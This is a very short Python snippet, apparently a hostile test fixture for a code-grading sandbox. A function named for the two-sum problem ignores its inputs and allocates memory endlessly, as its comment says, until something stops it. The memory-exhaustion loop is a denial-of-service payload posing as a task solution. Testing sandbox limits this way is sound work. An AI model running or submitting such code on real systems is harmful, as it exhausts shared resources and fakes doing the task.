# Hostile: allocates until something stops it.
def two_sum(nums, target):
    hoard = []
    while True:
        hoard.append(bytearray(1 << 20))
